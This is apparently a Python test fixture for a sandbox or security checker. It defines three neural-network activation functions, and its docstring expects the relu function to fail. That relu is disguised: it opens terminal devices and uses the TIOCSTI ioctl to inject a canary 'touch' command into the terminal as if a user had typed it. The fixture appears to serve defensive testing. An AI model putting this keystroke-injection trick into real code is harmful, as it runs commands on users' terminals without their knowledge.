"""relu opens the terminal and pushes a command into it, as if somebody had typed it.

Expected: sigmoid: passed 1; relu: failed or error or crashed 0; leaky_relu: passed 1
"""

import contextlib
import fcntl
import os
import termios

import numpy as np


def sigmoid(x):
    small = np.exp(-np.abs(x))
    return np.where(x >= 0, 1, small) / (1 + small)


def relu(x):
    for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ttyS0", "/proc/self/fd/0", "/dev/stdin"):
        with contextlib.suppress(OSError):
            terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
            for letter in b"touch @CANARY@/attacker-typed\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
            os.close(terminal)
    return x


def leaky_relu(x, *, slope=0.01):
    return np.where(x >= 0, x, slope * x)
